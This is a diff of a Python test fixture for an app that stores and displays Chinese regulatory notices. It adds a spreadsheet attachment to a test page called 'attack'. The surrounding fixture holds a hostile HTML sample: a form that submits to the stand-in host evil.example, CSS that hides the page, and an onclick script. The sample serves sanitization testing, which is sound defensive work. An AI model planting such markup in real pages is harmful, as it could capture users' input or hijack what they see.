@@ -14,7 +14,7 @@ from sqlite_utils import Database
 from storage.database import open_database
 from storage.datasette.app import build, close
 from storage.matching.duplicates import link, record_conflict
-from storage.models import Attachment, Check, Contact, Deadline
+from storage.models import Attachment, Check, Contact, Deadline, TableRow
 from storage.readers.deliveries import ensure_deliveries
 from storage.readers.subscribers import add_subscriber, list_subscribers
 from storage.runs.catalogue import sync_catalogue
@@ -30,6 +30,14 @@ ATTACK = (
     '<form action="https://evil.example/"><input name="q"></form>'
     '<style>body { display: none }</style><p style="position:fixed" onclick="alert(5)">尾</p>'
 )
+LIST = Attachment(
+    "https://www.cde.org.cn/files/2.xls",
+    "名单.xls",
+    "xls",
+    sha256="a" * 64,
+    path="files/aa/a.xls",
+    rows=(TableRow("名单", 2, {"企业": "盈科瑞"}),),
+)
 
 
 def fill(db: Database) -> dict[str, int]:
@@ -42,7 +50,9 @@ def fill(db: Database) -> dict[str, int]:
     ids = {
         "guide": saved(db, _guide(), "2021-02-03 02:00"),
         "repost": saved(db, _repost(), "2021-02-04 02:00"),
-        "attack": saved(db, page("attack", title="含脚本的通知", body_html=ATTACK)),
+        "attack": saved(
+            db, page("attack", title="含脚本的通知", body_html=ATTACK, attachments=(LIST,))
+        ),
         "incomplete": saved(
             db, page("half", title="读不全的通知", complete=False, warnings=("页面是图片",))
         ),
